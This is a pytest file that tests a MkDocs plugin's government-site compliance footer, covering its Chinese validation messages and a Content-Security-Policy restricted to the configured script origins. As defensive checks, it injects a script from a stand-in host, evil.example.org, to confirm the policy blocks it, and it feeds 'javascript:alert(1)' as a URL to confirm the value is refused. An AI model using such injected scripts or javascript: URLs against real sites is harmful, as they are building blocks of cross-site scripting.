"""The compliance footer of a government site (plugin option footer:): shown only when configured, every format
checked with a Chinese message, and the platform's third-party scripts allowed by the CSP — their origins and no
others — only when they are configured."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from playwright.sync_api import expect

from bulletin.messages import set_language
from bulletin.site.footer import FooterProblem, read_footer

from .browser import Watch, serve
from .conftest import build, make_project, plugin_options

ITEM = "issues/2020-008/nanan-kaizhan-wufei-xuexiao-xianchang/"
ERROR_REPORT = "https://zfwzgl.www.gov.cn/exposure/jiucuo.js"
BADGE = "https://dcs.conac.cn/js/23/000/0000/60000000/CA230000000600000000000.js"
FOOTER = ("footer:", "  sponsor: 重庆市生态环境局", "  organizer: 重庆市“无废城市”建设工作领导小组办公室",
          '  phone: "023-12345678"', "  email: wfb@example.gov.cn", '  site_code: "5000000001"',
          "  icp: 渝ICP备12345678号-1", "  police: 渝公网安备 50010302000000号",
          "  scripts:", f"    error_report: {ERROR_REPORT}", f"    badge: {BADGE}")
CSP = re.compile(r'http-equiv="Content-Security-Policy" content="([^"]+)"')


def directives(html: str) -> dict[str, str]:
    return dict(d.strip().split(" ", 1) for d in CSP.search(html).group(1).split(";"))


def options(**values) -> dict:
    """The footer options as MkDocs hands them to the plugin: every key present, empty unless given."""
    scripts = {"error_report": values.pop("error_report", ""), "badge": values.pop("badge", "")}
    keys = ("sponsor", "organizer", "phone", "email", "site_code", "icp", "police")
    return {**{k: values.pop(k, "") for k in keys}, "scripts": scripts}


@pytest.fixture(autouse=True)
def chinese():
    set_language("zh")
    yield
    set_language(None)


@pytest.fixture(scope="module")
def sites(tmp_path_factory) -> dict[str, Path]:
    """The seed archive built twice: without footer options and with all of them."""
    plain = build(make_project(tmp_path_factory.mktemp("plain")))
    full = build(make_project(tmp_path_factory.mktemp("footer"), extra=plugin_options(*FOOTER)))
    return {"plain": Path(plain.site_dir), "footer": Path(full.site_dir)}


def test_unset_no_footer_block_and_the_policy_is_unchanged(sites):
    for path in (sites["plain"] / "index.html", sites["plain"] / ITEM / "index.html"):
        html = path.read_text("utf-8")
        assert "bl-compliance" not in html and "ICP" not in html and "公网安备" not in html
        policy = directives(html)
        assert policy["script-src"].split() == ["'self'"] + sorted(re.findall(r"'sha256-[^']+'", policy["script-src"]))
        assert policy["img-src"] == "'self' data:"
        assert "https:" not in CSP.search(html).group(1)


def test_set_the_footer_shows_with_its_links(sites):
    html = (sites["footer"] / ITEM / "index.html").read_text("utf-8")
    block = html[html.index('<div class="bl-compliance">'):html.index("《渝环简报》由")]
    for text in ("主办单位：重庆市生态环境局", "承办单位：重庆市“无废城市”建设工作领导小组办公室",
                 "网站标识码：5000000001"):
        assert text in block
    assert '<a href="tel:02312345678">023-12345678</a>' in block
    assert '<a href="mailto:wfb@example.gov.cn">wfb@example.gov.cn</a>' in block
    assert re.search(r'<a class="bl-compliance__icp" href="https://beian.miit.gov.cn/"[^>]*>渝ICP备12345678号-1</a>',
                     block)
    assert re.search(r'<a class="bl-compliance__police" href="https://www.beian.gov.cn/portal/registerSystemInfo\?'
                     r'recordcode=50010302000000"[^>]*>渝公网安备 50010302000000号</a>', block)
    assert f'<script id="_jiucuo_" sitecode="5000000001" src="{ERROR_REPORT}"></script>' in block
    assert f'<span id="_ideConac"><script src="{BADGE}"></script></span>' in block


def test_set_the_policy_allows_exactly_those_origins(sites):
    origins = ["https://dcs.conac.cn", "https://zfwzgl.www.gov.cn"]
    for page in (sites["footer"] / "index.html", sites["footer"] / ITEM / "index.html", sites["footer"] / "404.html"):
        html = page.read_text("utf-8")
        policy, plain = directives(html), directives((sites["plain"] / page.relative_to(sites["footer"])).read_text())
        assert [s for s in policy["script-src"].split() if not s.startswith("'")] == origins
        assert policy["img-src"].split() == ["'self'", "data:", *origins]  # the badges are images from there
        assert policy["script-src"].split()[:-2] == plain["script-src"].split()  # the hashes are the same
        assert {k: v for k, v in policy.items() if k not in ("script-src", "img-src")} == \
               {k: v for k, v in plain.items() if k not in ("script-src", "img-src")}
    only_one = read_footer(options(error_report=ERROR_REPORT, site_code="5000000001"))
    assert only_one.origins == ("https://zfwzgl.www.gov.cn",)


@pytest.mark.browser
def test_the_scripts_run_under_the_policy_and_nothing_else_does(sites, chromium, tmp_path):
    """No bypass: the configured scripts load (answered here: no network) and draw their badges; a script from
    any other origin is refused. Without the options no page asks those hosts for anything."""
    with serve(sites["footer"], tmp_path / "footer") as base:
        context = chromium.new_context(viewport={"width": 390, "height": 844})
        asked = []
        for url, mark in ((ERROR_REPORT, "jiucuo"), (BADGE, "conac")):
            context.route(url, lambda route, request, mark=mark: (asked.append(mark), route.fulfill(
                content_type="application/javascript",
                body=f"window.__{mark} = 1; document.write('<a class=\"bl-test-{mark}\" href=\"#\">{mark}</a>');")))
        context.route("https://evil.example.org/**", lambda route: route.fulfill(
            content_type="application/javascript", body="window.__evil = 1;"))
        page = context.new_page()
        violations = []
        page.on("console", lambda m: "Content Security Policy" in m.text and violations.append(m.text))
        page.goto(base + ITEM)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("() => [window.__jiucuo, window.__conac]") == [1, 1], (asked, violations)
        assert sorted(asked) == ["conac", "jiucuo"]
        expect(page.locator(".bl-compliance .bl-test-jiucuo")).to_be_visible()
        assert violations == []
        with page.expect_console_message(lambda m: "Content Security Policy" in m.text):
            page.evaluate("""() => { const s = document.createElement('script');
                           s.src = 'https://evil.example.org/x.js'; document.body.appendChild(s); }""")
        assert page.evaluate("() => window.__evil") is None
        page.locator(".bl-compliance").screenshot(path=str(tmp_path / "footer-390.png"))
        context.close()
    with serve(sites["plain"], tmp_path / "plain") as base:
        page = chromium.new_page()
        watch = Watch(page, base.split("/archive/")[0])
        for path in ("", ITEM):
            page.goto(base + path)
            page.wait_for_load_state("networkidle")
        assert watch.foreign == [] and page.locator(".bl-compliance").count() == 0
        page.close()


@pytest.mark.parametrize(("values", "expected"), [
    ({"icp": "渝ICP12345678号"}, ["footer.icp", "渝ICP备12345678号-1", "“渝ICP12345678号”"]),
    ({"icp": "ICP备12345678号"}, ["footer.icp", "省份简称"]),
    ({"police": "渝公网安备5001030200号"}, ["footer.police", "14 位数字", "渝公网安备 50010302000000号"]),
    ({"site_code": "50000001"}, ["footer.site_code", "10 位", '"5000000001"']),
    ({"site_code": 123456789}, ["footer.site_code", "10 位"]),  # unquoted 0123456789: YAML dropped the 0
    ({"phone": 2312345678}, ["footer.phone", "加引号", '"023-12345678"']),
    ({"phone": "请致电"}, ["footer.phone", "电话号码"]),
    ({"email": "wfb.example.gov.cn"}, ["footer.email", "电子邮箱地址"]),
    ({"sponsor": "<b>重庆</b>"}, ["footer.sponsor", "< >"]),
    ({"sponsor": ["甲", "乙"]}, ["footer.sponsor", "一行文字"]),
    ({"badge": "http://dcs.conac.cn/x.js"}, ["footer.scripts.badge", "https://"]),
    ({"badge": "https://user:pw@dcs.conac.cn/x.js"}, ["footer.scripts.badge", "用户名密码"]),
    ({"badge": "javascript:alert(1)"}, ["footer.scripts.badge", "https://"]),
    ({"error_report": ERROR_REPORT}, ["footer.site_code", "找错"]),
])
def test_a_wrong_value_is_refused_naming_the_option_and_an_example(values, expected):
    with pytest.raises(FooterProblem) as raised:
        read_footer(options(**values))
    for text in expected:
        assert text in str(raised.value), str(raised.value)


def test_good_values_in_their_usual_shapes_are_taken():
    footer = read_footer(options(icp="京ICP证030173号", police="渝公网安备50010302000000号", site_code="bm04000001",
                                 phone="(023) 6789 1234 转 801", sponsor="  重庆市生态环境局 "))
    assert footer.sponsor == "重庆市生态环境局" and footer.tel == "tel:02367891234"
    assert footer.police_url.endswith("recordcode=50010302000000") and footer.shown and footer.origins == ()
    assert not read_footer(options()).shown
    assert read_footer(options(site_code=5000000001)).site_code == "5000000001"  # unquoted, nothing lost


def test_a_wrong_value_fails_the_build_in_chinese(tmp_path):
    """`mkdocs build` stops before writing a page, with the message and no traceback."""
    config = make_project(tmp_path, extra=plugin_options("footer:", "  icp: 渝ICP备号"))
    run = subprocess.run([sys.executable, "-m", "mkdocs", "build", "-q", "-f", str(config)], capture_output=True,
                         text=True, cwd=tmp_path, env={**os.environ, "LANG": "zh_CN.UTF-8", "BULLETIN_LANG": "zh"})
    assert run.returncode == 1
    assert "bulletin：mkdocs.yml 中 bulletin 插件的页脚设置有误：footer.icp 的格式不对：“渝ICP备号”" in run.stderr
    assert "例如 footer.icp: 渝ICP备12345678号-1" in run.stderr and "Traceback" not in run.stderr
    assert not (config.parent / "site" / "index.html").exists()
